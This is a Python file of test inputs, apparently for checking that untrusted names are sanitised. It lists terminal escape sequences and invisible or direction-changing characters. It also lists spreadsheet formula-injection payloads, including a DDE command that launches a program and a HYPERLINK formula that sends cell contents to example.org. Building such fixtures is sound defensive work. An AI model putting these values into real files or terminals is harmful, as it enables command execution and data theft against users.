"""Names as strangers may write them."""

# A terminal obeys these characters, or a reader does not see them. Of each kind: escape sequences,
# controls of one byte, line ends, direction of writing, without a shape, tags, not UTF-8.
DECEPTIVE = [
    "\x1b]0;title\x07",
    "\x1b[2J",
    "\x9b2J",
    *"\x00\x0b\x7f\r\n\t\x85\u2028\u2029",
    *"\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    *"\xad\u034f\u115f\u180e\u200b\u200c\u200d\u2060\u3164\ufeff\uffa0",
    "\U000e0041",
    "\udcff",
]

# A spreadsheet computes these, or what is left of them without white space.
FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://example.org?"&A2)',
    "=cmd|' /C calc'!A0",
    " =1",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "\rplain",
    '"=1',
    "'=1",
    "''=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "\xa0\u3000=1",
    "\x00=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\u22121",
]
